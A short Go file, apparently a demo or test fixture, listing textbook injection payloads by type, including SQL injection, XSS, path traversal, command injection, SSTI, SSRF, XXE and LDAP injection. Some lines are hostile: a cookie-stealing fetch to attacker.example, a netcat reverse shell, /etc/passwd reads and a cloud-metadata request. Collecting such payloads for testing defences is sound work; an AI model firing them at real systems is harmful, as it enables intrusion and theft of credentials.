package demo

// attack is one injection the client sends, with its type.
type attack struct {
	typ, value string
}

// attacks are hand-written textbook payloads, a few per type (not rows of
// any dataset).
var attacks = []attack{
	{"sqli", "' OR 1=1--"}, {"sqli", "1 UNION SELECT username, password FROM users--"},
	{"sqli", "1'; WAITFOR DELAY '0:0:5'--"}, {"sqli", "admin'/**/OR/**/'a'='a"},
	{"xss", "<script>alert(document.domain)</script>"}, {"xss", "\"><img src=x onerror=alert(1)>"},
	{"xss", "<svg/onload=fetch('//attacker.example/'+document.cookie)>"},
	{"traversal", "../../../../etc/passwd"}, {"traversal", "..%2f..%2f..%2fwindows%2fwin.ini"},
	{"cmdi", "; cat /etc/passwd"}, {"cmdi", "| nc 203.0.113.9 4444 -e /bin/sh"}, {"cmdi", "`id`"},
	{"ssti", "{{7*7}}"}, {"ssti", "${T(java.lang.Runtime).getRuntime().exec('id')}"},
	{"nosqli", `{"$ne": null}`}, {"nosqli", `{"$gt": ""}`},
	{"crlf", "%0d%0aSet-Cookie: session=attacker"},
	{"ssrf", "http://169.254.169.254/latest/meta-data/iam/"}, {"ssrf", "http://127.0.0.1:6379/"},
	{"xxe", `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>`},
	{"ldapi", "*)(uid=*))(|(uid=*"},
	{"open_redirect", "//attacker.example/%2f.."},
}
